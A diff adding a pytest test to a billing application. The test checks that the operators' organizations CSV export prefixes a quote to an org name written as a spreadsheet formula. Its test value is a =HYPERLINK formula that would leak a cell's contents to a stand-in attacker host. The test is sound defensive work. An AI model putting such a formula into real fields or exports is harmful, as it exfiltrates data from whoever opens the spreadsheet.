@@ -172,6 +172,20 @@ def test_orgs_search_filter_sort_paginate_and_export(client, world, stripe_env):
     assert [(r["name"], r["plan"], r["status"], r["mrr"], r["currency"]) for r in rows] == [("Acme", "Starter", "active", "9.00", "USD")]
 
 
+def test_the_orgs_export_shows_a_formula_in_an_org_name_as_text(client, world):
+    """Anyone who signs up names an organization: named like a formula, it must reach the operator's
+    spreadsheet as text (a ' in front), as the payments export does."""
+    from billing_app.auth import accounts
+    from tests.billing.helpers import PASSWORD
+
+    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
+    with session_scope() as s:
+        accounts.register(s, email="mallory@example.com", password=PASSWORD, name="Mallory", org_name=evil)
+    exported = client.get("/api/ops/orgs.csv?sort=name", headers=world["ops"])
+    names = [row["name"] for row in csv.DictReader(io.StringIO(exported.text))]
+    assert "'" + evil in names and "Acme" in names
+
+
 @pytest.mark.parametrize("moment", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"])
 def test_a_hand_made_orgs_cursor_outside_the_calendar_in_utc_is_refused(client, moment):
     ops = bearer(token_for(make_operator()))
